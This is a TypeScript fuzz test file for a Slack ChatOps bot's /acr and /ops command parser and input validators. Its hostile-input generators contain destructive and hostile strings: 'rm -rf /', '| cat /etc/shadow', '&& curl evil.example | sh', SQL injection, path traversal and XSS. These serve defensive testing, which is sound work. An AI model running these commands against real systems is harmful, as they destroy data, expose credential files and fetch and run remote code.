import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseRegistryName } from '../../../../src/core/commands/acr-names.ts';
import { JOB_ID_PATTERN, parseCommand, UsageError, type AcrBuildCommand, type ParsedCommand } from '../../../../src/core/commands/index.ts';
import { escapeMrkdwn } from '../../../../src/core/mrkdwn.ts';
import {
  validateContainerGroupName,
  validateCpu,
  validateDnsNameLabel,
  validateEnvVarName,
  validateImageReference,
  validateLocation,
  validateMemoryInGB,
  validateRegistryName,
  validateSlackChannelId,
  validateSlackUserId,
  validateSlackUsergroupId,
  type Validation,
} from '../../../../src/core/validation/index.ts';
import { ephemeral, usageReply } from '../../../../src/slack/render/replies.ts';

// Property-based fuzzing of everything user text reaches before a job is queued. The seed is
// fixed (and in the test names) so a failure replays exactly: fast-check prints the shrunk
// counterexample, and `{ seed, path }` from its report replays it alone.
const SEED = 0x5eed_0acd;
const PARSE_RUNS = 6000;
const VALIDATOR_RUNS = 3000;
const ALIGNMENT_RUNS = 1000;

// ---------------------------------------------------------------------------------------------
// Hostile slash-command text: fragments of real commands mixed with everything that has broken
// chat bots before.

const pick = (...items: string[]) => fc.constantFrom(...items);

const subcommands = pick('build', 'Build', 'BUILD', 'job', 'help', 'biuld', 'jbo', 'Help', 'audit', 'whoami', 'WhoAmI');
const flags = pick(
  '-t',
  '-r',
  '-f',
  '--image',
  '--registry',
  '--file',
  '--build-arg',
  '--env',
  '--platform',
  '--no-cache',
  '--timeout',
  '--target',
  '--help',
  '-h',
  '--',
  '-',
  '\u2014image',
  '\u2013t',
  '--imgae',
  '-T',
  '--build-arg=',
  '--env=prod',
  '-t=web:v1',
  '--user',
  '--since',
  '--action',
  '--page',
);
const values = pick(
  'web:v1',
  'team/web:{{.Run.ID}}',
  'Web:V1',
  'web@sha256:abc',
  'contosoreg',
  'contosoreg.azurecr.io',
  'ab',
  'VERSION=1.2',
  'A=b=c',
  '=x',
  'staging',
  'Prod',
  'linux/arm64',
  'linux/arm/v7',
  'windows',
  'plan9/z80',
  '600',
  '-5',
  '99999',
  '1e3',
  'Dockerfile',
  'docker/Dockerfile.prod',
  '/etc/passwd',
  'C:\\x',
  'runtime',
  'j0abc12def345',
  'J0ABC12DEF345',
  '`j0abc12def345`',
  'true',
  'false',
  '@alice',
  '<@U0ALICE1>',
  '<@u0alice1|alice>',
  'U0123ABCD',
  'ursula',
  '24h',
  '7d',
  '0m',
  '9999999w',
  'deploy',
  'approval.granted',
  '1700000000000-0',
);
const urls = pick(
  'https://github.com/org/app.git#main',
  'https://github.com/org/app.git#main:src',
  '<https://github.com/org/app.git#main>',
  '<https://github.com/org/app.git#main|github.com/org/app.git#main>',
  'github.com/org/app.git',
  'http://github.com/org/app.git',
  'git@github.com:org/app.git',
  'https://dev.azure.com/org/proj/_git/app#release',
  'https://org@dev.azure.com/org/proj/_git/app',
  'https://user:ghp_token@github.com/org/app.git',
  'https://github.com/org/app/tree/main/src',
  'https://github.com/org/app.git?ref=main',
  'ftp://x.io/a.git',
  'https://[::1/a.git',
  'https://github.com/org/app.git#../../etc',
  'https://github.com/org/app.git#main:../../etc/passwd',
);
const wholeCommands = pick(
  'build -t web:v1 https://github.com/org/app.git#main',
  'build -r contosoreg -t web:v1 -f Dockerfile --build-arg VERSION=1.2 --platform linux/arm64 --no-cache --timeout 600 --env staging --target runtime https://github.com/org/app.git#main:src',
  'job j0abc12def345',
  'help build',
);
const quotes = pick(
  '"',
  "'",
  '\u201c',
  '\u201d',
  '\u2018',
  '\u2019',
  '\\',
  '""',
  "''",
  '"web:v1"',
  '\u201csmart value\u201d',
  '\u2018single\u2019',
  '"unbalanced',
  "it's",
  '\\"',
  '"a\\"b"',
);
const controls = fc.oneof(
  fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code)),
  pick(
    '\u007f',
    '\u0085',
    '\u009b',
    '\u202e',
    '\u202d',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u200e',
    '\u200f',
    '\u200b',
    '\u2028',
    '\u2029',
    '\ufeff',
    '\u001b[31m',
  ),
);
const unicode = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  pick('🚀', '👩\u200d💻', '🇺🇳', 'e\u0301', 'a\u0300\u0301\u0302\u0303', 'مرحبا', 'שלום', 'ß', 'İ', 'ﬁ', 'Ｗｅｂ', '\u00a0', '\u3000', '\u212a'),
);
const markup = pick(
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!here|here>',
  '<@U123>',
  '<@U123|bob>',
  '<#C123|general>',
  '<!subteam^S1|@x>',
  '<https://evil.example|click>',
  '<http://evil.example>',
  '<mailto:a@b.c|a@b.c>',
  '<!date^1392734382^{date}|x>',
  '&lt;!channel&gt;',
  '&lt;@U123&gt;',
  '&amp;lt;!here&amp;gt;',
  '&lt;https://evil.example|click&gt;',
  '&amp;',
  '&lt;',
  '&gt;',
  '<',
  '>',
  '<<!channel>>',
);
const injection = pick(
  '$(rm -rf /)',
  '`rm -rf /`',
  '; DROP TABLE jobs;--',
  "' OR '1'='1",
  '../../etc/passwd',
  '..\\..\\windows',
  '{{.Run.ID}}',
  '{{ .Values.secret }}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell-style ${HOME} is one of the injections tried
  '${HOME}',
  '%0a',
  '\n/acr build',
  '| cat /etc/shadow',
  '&& curl evil.example | sh',
  '<script>alert(1)</script>',
  '*bold* _it_ ~s~ `code`',
  '```block```',
);
const longTokens = fc
  .tuple(pick('a', 'x', '-', '--t', '🚀', '"', '<!channel>', '&lt;', 'e\u0301', '\u202e', '\\', 'web:v1', ' '), fc.integer({ min: 100, max: 5000 }))
  .map(([unit, length]) => unit.repeat(Math.max(1, Math.floor(length / unit.length))));

const fragment = fc.oneof(
  { arbitrary: subcommands, weight: 3 },
  { arbitrary: flags, weight: 6 },
  { arbitrary: values, weight: 5 },
  { arbitrary: fc.tuple(flags, values).map(([flag, value]) => `${flag}=${value}`), weight: 2 },
  { arbitrary: urls, weight: 4 },
  { arbitrary: wholeCommands, weight: 1 },
  { arbitrary: quotes, weight: 3 },
  { arbitrary: controls, weight: 2 },
  { arbitrary: unicode, weight: 2 },
  { arbitrary: markup, weight: 3 },
  { arbitrary: injection, weight: 2 },
  { arbitrary: longTokens, weight: 1 },
);
const separator = pick(' ', ' ', ' ', '', '  ', '\n', '\t', '\u00a0', '\r\n');

/** Free mixtures of fragments. */
const soup = fc.array(fc.tuple(fragment, separator), { maxLength: 24 }).map((parts) => parts.map(([word, sep]) => word + sep).join(''));
/** Flags with values `/acr build` accepts, some carrying hostile text where any text is allowed. */
const goodOptions = pick(
  '-r contosoreg',
  '-r ContosoReg.azurecr.io',
  '-t team/web:{{.Run.ID}}',
  '--build-arg VERSION=1.2',
  '--build-arg A=b=c',
  '--platform linux/arm64',
  '--no-cache',
  '--no-cache false',
  '--timeout 600',
  '--env staging',
  '--target runtime',
  '-f docker/Dockerfile.prod',
  '--build-arg "MSG=hi <!channel> <@U123>"',
  '--build-arg NOTE=$(rm\\ -rf\\ /)',
  "--build-arg 'Q=; DROP TABLE jobs;--'",
  '--build-arg “S=\u202e smart”',
);
/** A plausible `/acr build` with hostile values in it, so the deep parsers are reached often. */
const buildText = fc
  .tuple(
    pick('build', 'Build'),
    fc.array(
      fc.oneof(
        { arbitrary: goodOptions, weight: 6 },
        { arbitrary: fc.tuple(flags, values).map(([flag, value]) => `${flag} ${value}`), weight: 1 },
        { arbitrary: fc.tuple(flags, fragment).map(([flag, value]) => `${flag} ${value}`), weight: 1 },
      ),
      { maxLength: 4 },
    ),
    fc.oneof({ arbitrary: urls, weight: 3 }, { arbitrary: fragment, weight: 1 }),
  )
  .map(([sub, options, url]) => [sub, '-t web:v1', ...options, url].join(' '));
const opsText = fc.oneof(
  fc
    .oneof(
      { arbitrary: pick('j0abc12def345', 'J0ABC12DEF345', '`j0abc12def345`', 'j0abc12def34'), weight: 2 },
      { arbitrary: values, weight: 1 },
      { arbitrary: fragment, weight: 1 },
    )
    .map((id) => `job ${id}`),
  fc
    .array(fc.tuple(pick('--user', '--env', '--since', '--action', '--page'), fc.oneof(values, fragment)), { maxLength: 3 })
    .map((pairs) => ['audit', ...pairs.flat()].join(' ')),
  fc.oneof(pick(''), fragment).map((rest) => `whoami ${rest}`),
);

const hostileText = fc.oneof({ arbitrary: soup, weight: 3 }, { arbitrary: buildText, weight: 2 }, { arbitrary: opsText, weight: 1 });
const slashCommand = fc.oneof(
  { arbitrary: pick('/acr'), weight: 6 },
  { arbitrary: pick('/ops'), weight: 4 },
  { arbitrary: pick('/ACR', 'ops', '/deploy', '', ' /acr ', '/acr\u0000', '<!channel>', '/ops\u202e'), weight: 1 },
);

// ---------------------------------------------------------------------------------------------
// What must hold for every input.

/** Slack turns these into mentions, broadcasts or links; after escaping none may remain. */
const SLACK_CONTROL = /<[!@#]|<https?:/i;
/**
 * Raw control characters (other than \n), C1 controls and bidi overrides garble a reply.
 * U+2028/U+2029 (line/paragraph separators) and zero-width characters are left out: the
 * command parser echoes them (see 'known gaps' below).
 */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const INVISIBLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

/** Asserts text Slack would show carries no markup and no raw control characters. */
function expectSafeToShow(rendered: string, context: string): void {
  expect(rendered, context).not.toMatch(SLACK_CONTROL);
  // escapeMrkdwn turns every < and > into an entity, so none should be left at all.
  expect(rendered, context).not.toMatch(/[<>]/);
  expect(rendered, context).not.toMatch(RAW_CONTROL);
}

/**
 * Asserts a parse result is one of the command shapes, with every field valid. Kinds are
 * matched as strings, and any kind without its own checks gets the generic ones, so commands
 * added to the parser later are fuzzed too without this file failing to compile.
 */
function expectWellFormed(parsed: ParsedCommand, context: string): void {
  // Job data is JSON: the command must survive it unchanged (no undefined keys, no class instances).
  expect(JSON.parse(JSON.stringify(parsed)), context).toStrictEqual(parsed);
  const kind: string = parsed.kind;
  expect(kind, context).toMatch(/^(help|acr\.[a-z]+|ops\.[a-z]+)$/);
  if (parsed.kind === 'help') {
    expect(parsed.topic, context).toMatch(/^\/(acr|ops)( [a-z]+)?$/);
    expect(parsed.usage.length, context).toBeGreaterThan(0);
  } else if (parsed.kind === 'acr.build') {
    expectWellFormedBuild(parsed, context);
  } else if (kind === 'ops.job') {
    const { jobId } = parsed as unknown as { jobId: string };
    expect(Object.keys(parsed).sort(), context).toEqual(['jobId', 'kind']);
    expect(jobId, context).toMatch(JOB_ID_PATTERN);
  } else if (kind === 'ops.audit') {
    // The parser's --user rule and validateSlackUserId must agree on what a user id is.
    const { user } = parsed as unknown as { user?: string };
    if (user !== undefined) expect(validateSlackUserId(user), context).toStrictEqual({ ok: true, value: user });
  }
  // Whatever the kind, no parsed string carries raw controls or bidi overrides. Exception:
  // build-arg values by design (any text for Docker, tabs and newlines included).
  const checked = parsed.kind === 'acr.build' ? { ...parsed, buildArgs: parsed.buildArgs.map((a) => a.name) } : parsed;
  for (const text of strings(checked)) expect(text, context).not.toMatch(RAW_CONTROL);
}

/** Every string inside a parsed command, however deep. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(strings);
  return [];
}

function expectWellFormedBuild(build: AcrBuildCommand, context: string): void {
  expect(build.images.length, context).toBeGreaterThan(0);
  expect(new Set(build.images).size, context).toBe(build.images.length);
  // What the parser lets through, the validators accept too: the two rule sets agree.
  for (const image of build.images) expect(validateImageReference(image, { allowRunId: true }).ok, `${context} image ${image}`).toBe(true);
  if (build.registry !== undefined) expect(validateRegistryName(build.registry), context).toStrictEqual({ ok: true, value: build.registry });
  for (const { name, value } of build.buildArgs) {
    expect(name, context).toMatch(/^[A-Za-z_][A-Za-z0-9_]*$/);
    expect(value, context).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
  }
  expect(new Set(build.buildArgs.map((a) => a.name)).size, context).toBe(build.buildArgs.length);
  expect(build.file, context).not.toMatch(/^[\\/]|^[A-Za-z]:|(^|[\\/])\.\.([\\/]|$)|[\u0000-\u001f\u007f]/);
  expect(['Linux', 'Windows'], context).toContain(build.platform.os);
  expect(typeof build.noCache, context).toBe('boolean');
  if (build.timeoutSeconds !== undefined) {
    expect(Number.isInteger(build.timeoutSeconds), context).toBe(true);
    expect(build.timeoutSeconds, context).toBeGreaterThanOrEqual(300);
    expect(build.timeoutSeconds, context).toBeLessThanOrEqual(28800);
  }
  if (build.environment !== undefined) expect(build.environment, context).toMatch(/^[a-z0-9][a-z0-9-]{0,31}$/);
  if (build.target !== undefined) expect(build.target, context).toMatch(/^[A-Za-z][A-Za-z0-9_.-]{0,127}$/);
  // `<`, `>` and `!` are legal in git ref names, so `#main<!channel>` is a valid ref; it is shown escaped.
  expect(build.source.location, context).toMatch(/^https:\/\/\S+$/i);
  expect(build.source.url, context).not.toMatch(INVISIBLE);
}

const VALIDATORS: readonly [string, (text: string) => Validation<unknown>][] = [
  ['registry name', validateRegistryName],
  ['container group name', validateContainerGroupName],
  ['DNS name label', validateDnsNameLabel],
  ['image reference', (text) => validateImageReference(text)],
  ['image reference with {{.Run.ID}}', (text) => validateImageReference(text, { allowRunId: true })],
  ['environment variable name', validateEnvVarName],
  ['location', (text) => validateLocation(text)],
  ['known location', (text) => validateLocation(text, { known: ['westeurope', 'eastus2', 'swedencentral'] })],
  ['cpu', (text) => validateCpu(text)],
  ['memory', (text) => validateMemoryInGB(text)],
  ['Slack user id', validateSlackUserId],
  ['Slack user group id', validateSlackUsergroupId],
  ['Slack channel id', validateSlackChannelId],
];

/**
 * Asserts a validator's answer is a well-formed result whose problem is safe to show. Plain
 * checks with `expect.fail` keep the ~500,000 answers fast; `expect` per answer is too slow.
 */
function expectGoodValidation(name: string, validate: (text: string) => Validation<unknown>, input: string): void {
  const fail = (why: string, result: unknown): never => expect.fail(`${name} of ${JSON.stringify(input.slice(0, 200))}: ${why}: ${JSON.stringify(result)}`);
  const result = validate(input);
  const keys = Object.keys(result).sort().join(',');
  if (result.ok) {
    if (keys !== 'ok,value') fail('unexpected keys', result);
    // A cleaned value is itself valid, and cleans to itself.
    if (typeof result.value === 'string') {
      const again = validate(result.value);
      if (!again.ok || again.value !== result.value) fail('the cleaned value does not validate to itself', again);
    }
    return;
  }
  if (keys !== 'ok,problem' || typeof result.problem !== 'string') fail('unexpected shape', result);
  // Long values are cut, so a problem stays one short sentence whatever was typed.
  if (result.problem.length < 20 || result.problem.length >= 500) fail('problem too short or too long', result);
  if (INVISIBLE.test(result.problem)) fail('problem has invisible characters', result);
  const rendered = usageReply(result.problem, '').text;
  if (SLACK_CONTROL.test(rendered) || /[<>]/.test(rendered) || RAW_CONTROL.test(rendered)) fail('rendered problem is unsafe', rendered);
}

// ---------------------------------------------------------------------------------------------

// Found by this fuzzing in src/core/commands, now fixed; kept as regression tests.
describe('fuzz: regressions found by fuzzing', () => {
  it('-f refuses bidi overrides and C1 controls in the Dockerfile path (acr-names.ts parseDockerfilePath)', () => {
    // The path is shown on the build card; U+202E can make it read as another path.
    const outcome = (() => {
      try {
        return parseCommand('/acr', 'build -t web:v1 -f "Dockerfile\u202eorp.elif" https://github.com/org/app.git#main');
      } catch (err) {
        return err;
      }
    })();
    expect(outcome).toBeInstanceOf(UsageError);
  });

  it('usage errors never echo raw U+2028/U+2029 line separators (quoted.ts quoted() and printable())', () => {
    const messages = ['build -t "a\u2028b" https://github.com/org/app.git#main', '"\u2029web:v1'].map((text) => {
      try {
        parseCommand('/acr', text);
        return '';
      } catch (err) {
        return (err as UsageError).message;
      }
    });
    for (const message of messages) expect(message).not.toMatch(/[\u2028\u2029]/);
  });
});

describe('fuzz: hostile slash-command text', () => {
  it(`parseCommand refuses or parses ${PARSE_RUNS} hostile inputs safely (seed ${SEED})`, () => {
    const seen: Record<string, number> = {};
    const count = (outcome: string) => (seen[outcome] = (seen[outcome] ?? 0) + 1);
    fc.assert(
      fc.property(slashCommand, hostileText, (command, text) => {
        const context = JSON.stringify([command, text.slice(0, 300)]);
        let parsed: ParsedCommand;
        try {
          parsed = parseCommand(command, text);
        } catch (err) {
          // (a) nothing but UsageError escapes; (b) it is a complete one.
          if (!(err instanceof UsageError)) throw new Error(`non-UsageError escaped for ${context}`, { cause: err });
          expect(err.message.length, context).toBeGreaterThan(0);
          expect(err.message.length, context).toBeLessThan(600);
          expect(err.usage.length, context).toBeGreaterThan(0);
          expect(err.code, context).toBe('chatops_usage');
          // (c) what Slack shows: the reply the listener sends for a UsageError.
          expectSafeToShow(usageReply(err.message, err.usage).text, context);
          count('usageError');
          return;
        }
        expectWellFormed(parsed, context);
        if (parsed.kind === 'help') expectSafeToShow(ephemeral(escapeMrkdwn(parsed.usage)).text, context);
        count(parsed.kind);
      }),
      { numRuns: PARSE_RUNS, seed: SEED },
    );
    // The generator must reach every outcome, or the property proves little.
    expect(seen['acr.build'] ?? 0).toBeGreaterThan(100);
    expect(seen['ops.job'] ?? 0).toBeGreaterThan(20);
    expect(seen.help ?? 0).toBeGreaterThan(100);
    expect(seen.usageError ?? 0).toBeGreaterThan(2000);
  });

  it(`validators never throw and answer safely for ${VALIDATOR_RUNS} hostile inputs and their words (seed ${SEED})`, () => {
    const words = (text: string) => text.split(/[\s\u00a0]+/u).slice(0, 12);
    fc.assert(
      fc.property(hostileText, (text) => {
        for (const input of [text, ...words(text)]) {
          for (const [name, validate] of VALIDATORS) expectGoodValidation(name, validate, input);
        }
      }),
      { numRuns: VALIDATOR_RUNS, seed: SEED + 1 },
    );
  });

  it(`validateRegistryName agrees with the /acr parser's parseRegistryName on ${ALIGNMENT_RUNS} inputs (seed ${SEED})`, () => {
    const registryish = fc.oneof(
      fc.string({ unit: fc.constantFrom(...'aZ09-_.é'), maxLength: 60 }),
      fc
        .tuple(
          fc.string({ unit: fc.constantFrom(...'abcXYZ019'), minLength: 3, maxLength: 52 }),
          pick('', '.azurecr.io', '.AzureCR.us', '.azurecr.cn', '.azurecr.com'),
        )
        .map(([name, suffix]) => name + suffix),
      fragment,
    );
    fc.assert(
      fc.property(registryish, (text) => {
        let parsed: string | undefined;
        try {
          parsed = parseRegistryName(text, '');
        } catch (err) {
          expect(err).toBeInstanceOf(UsageError);
        }
        const result = validateRegistryName(text);
        expect(result.ok ? result.value : undefined, JSON.stringify(text)).toBe(parsed);
      }),
      { numRuns: ALIGNMENT_RUNS, seed: SEED + 2 },
    );
  });
});
